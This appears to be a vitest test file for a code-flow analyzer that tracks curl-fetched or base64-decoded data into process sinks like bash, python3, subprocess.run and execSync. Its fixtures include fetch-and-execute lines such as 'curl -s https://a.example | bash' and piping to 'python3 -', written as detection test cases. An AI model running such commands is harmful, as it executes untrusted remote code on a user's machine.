import { expect, it } from 'vitest'

import { factsOf, spec } from '../testkit.js'

const started = {
  ...spec,
  sources: [
    { pattern: 'curl', tag: 'remote' },
    { pattern: 'base64.b64decode', tag: 'decoded' },
    { pattern: 'Buffer.from', tag: 'decoded' },
  ],
  sinks: [
    'bash',
    'sh',
    'python3',
    'node',
    'subprocess.run',
    'child_process.spawnSync',
    'child_process.execSync',
    'eval',
  ].map((pattern) => ({ pattern, tag: 'exec' })),
}

async function places(path: string, text: string): Promise<readonly unknown[]> {
  const facts = await factsOf({ [path]: text }, [started])
  return facts.filter(({ kind }) => kind === 'code.flow').map((fact) => fact['code.flow.place'])
}

const python = 'import base64, subprocess, sys\nx = base64.b64decode(input())\n'
const script =
  'const { spawnSync, execSync } = require("child_process")\nconst x = Buffer.from(a, "base64").toString()\n'
it.each([
  ['an argument of a fixed program', 'a.py', `${python}subprocess.run(["xclip", "-i", x])`, 'argument'],
  ['the input of a fixed program', 'a.py', `${python}subprocess.run(["xclip"], input=x)`, 'input'],
  ['the program', 'a.py', `${python}subprocess.run([x, "-i"])`, 'program'],
  ['a line for a shell', 'a.py', `${python}subprocess.run(x, shell=True)`, 'program'],
  ['code for an interpreter', 'a.py', `${python}subprocess.run(["bash", "-c", x])`, 'program'],
  ['an argument of a script', 'a.py', `${python}subprocess.run([sys.executable, "a.py", x])`, 'argument'],
  ['what an interpreter reads', 'a.py', `${python}subprocess.run(["python3"], input=x)`, 'program'],
  ['the argument of what starts others', 'a.py', `${python}subprocess.run(["env", x])`, 'program'],
  ['a program that is not known', 'a.py', `${python}subprocess.run([tool, x])`, 'program'],
  ['an argument in JavaScript', 'a.js', `${script}spawnSync("git", ["log", x])`, 'argument'],
  ['one of a list out of sight', 'a.js', `${script}spawnSync("xclip", list(x))`, 'argument'],
  ['with a shell', 'a.js', `${script}spawnSync("xclip", [x], { shell: true })`, 'program'],
  ['a line', 'a.js', `${script}execSync("xclip " + x)`, 'program'],
  ['the input of a line', 'a.js', `${script}execSync("xclip", { input: x })`, 'input'],
  [
    'data that fixed code reads',
    'a.sh',
    `curl -s https://a.example | python3 -c 'import json; print(1)'`,
    'input',
  ],
  [
    'data that code runs',
    'a.sh',
    `curl -s https://a.example | python3 -c 'import sys; exec(sys.stdin.read())'`,
    'program',
  ],
  ['data for a module', 'a.sh', 'curl -s https://a.example | python3 -m json.tool', 'input'],
  ['a script on the input', 'a.sh', 'curl -s https://a.example | python3 -', 'program'],
  ['a script for a shell', 'a.sh', 'curl -s https://a.example | bash -s -- --quiet', 'program'],
  ['a script in a file', 'a.sh', 'curl -so i.sh https://a.example; bash i.sh', 'program'],
  ['a word of a script', 'a.sh', 'bash i.sh "$(curl -s https://a.example)"', 'argument'],
])('%s', async (_, path, text, place) => {
  expect(await places(path, text)).toEqual([place])
})

it('what starts no process has no place', async () => {
  expect(await places('a.js', `${script}eval(x)`)).toEqual(['program'])
})

it.each([
  ['a line as it came', 'a.py', `${python}subprocess.run(x, shell=True)`, [true]],
  ['a part of a line', 'a.py', `${python}subprocess.run("open " + x, shell=True)`, [undefined]],
  ['a list', 'a.py', `${python}subprocess.run(x)`, [undefined]],
  ['a line of a script', 'a.js', `${script}execSync(x)`, [true]],
  ['what stands beside the line', 'a.js', `${script}execSync("git push", { env: x })`, [undefined]],
])('knows when nothing else is in the line: %s', async (_, path, text, whole) => {
  const facts = await factsOf({ [path]: text }, [started])
  const found = facts.filter(({ kind }) => kind === 'code.flow').map((fact) => fact['code.flow.whole'])
  expect(found).toEqual(whole)
})

it.each([
  ['an option', 'a.js', `${script}execSync("git push", { env: { ...x, A: x } })`, [true]],
  ['by name', 'a.py', `${python}subprocess.run(["git", "push"], env=x)`, [true]],
  ['beside the input', 'a.js', `${script}execSync("git push", { env: x, input: x })`, [undefined]],
  ['an argument', 'a.py', `${python}subprocess.run(["git", x], env={})`, [undefined]],
])('knows what is only in the environment of a process: %s', async (_, path, text, only) => {
  const facts = await factsOf({ [path]: text }, [started])
  const found = facts.filter(({ kind }) => kind === 'code.flow')
  expect(found.map((fact) => fact['code.flow.environment'])).toEqual(only)
})
